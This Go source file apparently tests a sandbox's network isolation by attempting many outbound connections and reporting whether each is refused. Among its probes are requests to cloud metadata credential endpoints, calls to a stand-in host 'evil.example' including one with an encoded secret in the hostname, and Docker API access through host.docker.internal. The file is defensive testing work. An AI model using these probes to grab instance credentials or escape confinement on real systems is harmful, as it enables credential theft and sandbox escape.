package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"strings"
	"time"
)

// controls are what must work: a box without any network would seem sealed.
func controls(when string, p plan) {
	for _, port := range p.Ports {
		visit("control "+when+": "+p.Name+":"+port+" without the proxy", net.JoinHostPort(p.Name, port), p.Name, port)
	}
	name := "control " + when + ": " + p.Name + ":443 through the proxy"
	conn, err := net.DialTimeout("tcp", "127.0.0.1:3128", patience)
	if err != nil {
		tell(name, err)
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	fmt.Fprintf(conn, "CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n", p.Name, p.Name)
	res, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: http.MethodConnect})
	if err != nil || res.StatusCode != http.StatusOK {
		said(name, fmt.Sprint("CONNECT: ", err, " ", res), "")
		return
	}
	speakTLS(name, conn, p.Name, p.Name, "/echo")
}

// visit asks for /echo over TLS at an address, as any client does.
func visit(name, address, sni, port string) {
	conn, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		tell(name, err)
		return
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	host := sni
	if host == "" {
		host, _, _ = net.SplitHostPort(address)
		sni = host
	}
	if port != "443" {
		host += ":" + port
	}
	speakTLS(name, conn, sni, host, "/echo")
}

func speakTLS(name string, conn net.Conn, sni, host, path string) {
	// The session's CA is trusted here, and an address gets no server name.
	in := tls.Client(conn, &tls.Config{ServerName: sni})
	if err := in.Handshake(); err != nil {
		tell(name, err, "TLS: "+err.Error())
		return
	}
	request(name, in, host, path)
}

var reasons = regexp.MustCompile(`"reason":"([a-z_]+)"`)

// request prints the status of the answer, and its reason where it has one.
func request(name string, conn net.Conn, host, path string) {
	if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nMetadata-Flavor: Google\r\nConnection: close\r\n\r\n",
		path, host); err != nil {
		tell(name, err)
		return
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		tell(name, err)
		return
	}
	body, _ := io.ReadAll(io.LimitReader(res.Body, 1<<16))
	words := fmt.Sprint("HTTP ", res.StatusCode)
	if m := reasons.FindSubmatch(body); m != nil {
		words += " " + string(m[1])
	}
	said(name, words, string(body))
}

// connections are those over TCP: each ends at the plane, or nowhere.
func connections(p plan) {
	plain := func(name, address, host, path string) {
		conn, err := net.DialTimeout("tcp", address, patience)
		if err != nil {
			tell(name, err)
			return
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(patience))
		request(name, conn, host, path)
	}
	words := func(name, address, hello string) {
		conn, err := net.DialTimeout("tcp", address, patience)
		if err != nil {
			tell(name, err)
			return
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(patience))
		if _, err := io.WriteString(conn, hello); err != nil {
			tell(name, err)
			return
		}
		answer, err := io.ReadAll(io.LimitReader(conn, 1<<16))
		switch {
		case len(answer) > 0 && strings.HasPrefix(string(answer), "HTTP/1.1 "):
			said(name, "HTTP "+string(answer[9:12])+reason(answer), string(answer))
		case strings.HasPrefix(string(answer), "SSH-2.0-aileron\r\n") &&
			strings.Contains(string(answer), "aileron: SSH does not leave this session"):
			said(name, "SSH denied", string(answer))
		case len(answer) > 0:
			said(name, "answered", string(answer))
		case err != nil:
			tell(name, err)
		default:
			said(name, "closed", "")
		}
	}
	// Clouds serve their machines' credentials at these.
	for _, at := range []string{"169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192"} {
		plain("tcp metadata "+at, at+":80", at, "/latest/meta-data/iam/security-credentials/")
	}
	plain("tcp metadata by name", "metadata.google.internal:80", "metadata.google.internal", "/computeMetadata/v1/")
	words("tcp metadata fd00:ec2::254", "[fd00:ec2::254]:80", "GET / HTTP/1.1\r\nHost: x\r\n\r\n")

	visit("tls to an address, no server name", "1.1.1.1:443", "", "443")
	visit("tls to an address, a name that is not allowed", "1.1.1.1:443", "evil.example", "443")
	visit("tls to an address, an allowed name", "1.1.1.1:443", p.Name, "443")
	visit("tls to an address, another port", "1.1.1.1:8443", "", "8443")
	visit("tls to a name that is not allowed", "evil.example:443", "evil.example", "443")
	visit("tls to a name that is not allowed, another port", "evil.example:2222", "evil.example", "2222")
	visit("DoT to 1.1.1.1", "1.1.1.1:853", "one.one.one.one", "853")
	visit("DoH to 1.1.1.1", "1.1.1.1:443", "cloudflare-dns.com", "443")
	plain("http to an address", "192.0.2.1:80", "192.0.2.1", "/")
	plain("http to a name that is not allowed", "evil.example:80", "evil.example", "/")
	plain("http to a name with a secret in it", "c2VjcmV0.evil.example:80", "c2VjcmV0.evil.example", "/")
	words("ssh to an address", "1.1.1.1:22", "SSH-2.0-probe\r\n")
	words("smtp to a name", "mail.evil.example:25", "EHLO probe\r\n")
	words("SOCKS at the proxy", "127.0.0.1:3128", "\x05\x01\x00\r\n\r\n")
	words("the redirect's own port", "127.0.0.1:15001", "hello\r\n\r\n")
	words("DNS over the redirect: bytes that are none", "1.1.1.1:53", "\x00\x03abc")
	for _, at := range p.Hosts {
		host, port, _ := net.SplitHostPort(at)
		switch ip := net.ParseIP(host); {
		case ip.IsLoopback():
			words("tcp to the host's loopback "+host, at, "hello\r\n\r\n")
		case ip.To4() == nil:
			words("tcp to the host "+host, at, "hello\r\n\r\n")
		default:
			plain("tcp to the host "+host, at, net.JoinHostPort(host, port), "/")
		}
	}
	// By the names that engines give the host, which a box's /etc/hosts has not.
	for _, name := range []string{"host.containers.internal", "host.docker.internal"} {
		plain("tcp to "+name, name+":2375", name, "/containers/json")
	}

	for _, at := range []string{"[2606:4700:4700::1111]:443", "[2001:4860:4860::8888]:53", "[fe80::1%lo]:80",
		"[ff02::1%lo]:80", "[64:ff9b::101:101]:443", "[2002:101:101::1]:443"} {
		words("tcp6 to "+at, at, "hello")
	}
	plain("tcp6 to a mapped address", "[::ffff:192.0.2.7]:80", "192.0.2.7", "/")
}

func reason(answer []byte) string {
	if m := reasons.FindSubmatch(answer); m != nil {
		return " " + string(m[1])
	}
	return ""
}

// datagrams are sent and an answer awaited: a refusal may come with either.
func datagrams() {
	for _, c := range []struct{ name, network, to string }{
		{"udp to 192.0.2.1:9", "udp4", "192.0.2.1:9"},
		{"udp, QUIC to 1.1.1.1:443", "udp4", "1.1.1.1:443"},
		{"udp, NTP to 192.0.2.1:123", "udp4", "192.0.2.1:123"},
		{"udp to 169.254.169.254:80", "udp4", "169.254.169.254:80"},
		{"udp, QUIC to a name's address", "udp4", "198.18.0.1:443"},
		{"udp multicast 224.0.0.251:5353", "udp4", "224.0.0.251:5353"},
		{"udp broadcast", "udp4", "255.255.255.255:67"},
		{"udp6 to 2001:db8::1:443", "udp6", "[2001:db8::1]:443"},
		{"udp6, DNS to 2001:4860:4860::8888", "udp6", "[2001:4860:4860::8888]:53"},
		{"udp6 link-local", "udp6", "[fe80::1%lo]:546"},
		{"udp6 multicast ff02::fb:5353", "udp6", "[ff02::fb%lo]:5353"},
	} {
		conn, err := net.DialTimeout(c.network, c.to, patience)
		if err != nil {
			tell(c.name, err)
			continue
		}
		_ = conn.SetDeadline(time.Now().Add(patience))
		if _, err = conn.Write([]byte("out of the box")); err == nil {
			_, err = conn.Read(make([]byte, 512))
		}
		_ = conn.Close()
		tell(c.name, err)
	}
}
